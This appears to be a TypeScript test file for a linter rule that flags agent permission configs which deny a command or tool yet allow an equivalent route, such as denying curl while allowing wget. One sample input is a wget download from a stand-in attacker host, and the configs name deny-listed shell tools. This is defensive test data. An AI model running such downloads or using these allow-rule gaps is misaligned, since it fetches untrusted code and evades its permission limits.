import { otherWay } from "../../src/rules/other-way.ts";
import { check } from "../support/check.ts";

check(
  otherWay,
  "a program, a server and a command",
  `
rules:
  - { deny: shell, command: curl }
#           ^^^^^ other-way
  - { allow: shell, command: "wget https://*" }
  - { deny: mcp:github/merge_pull_request }
#           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ other-way
  - { allow: shell, command: "gh pr merge *" }
`,
  ["wget https://attacker.example/x", "gh pr merge 1"],
);

check(
  otherWay,
  "both denied, neither granted, or any program",
  `
rules:
  - { deny: shell, command: [npm publish, pnpm publish] }
  - { allow: shell, command: ["pnpm {test,publish}", "yarn test"] }
  - { deny: mcp:github/merge_pull_request }
`,
);
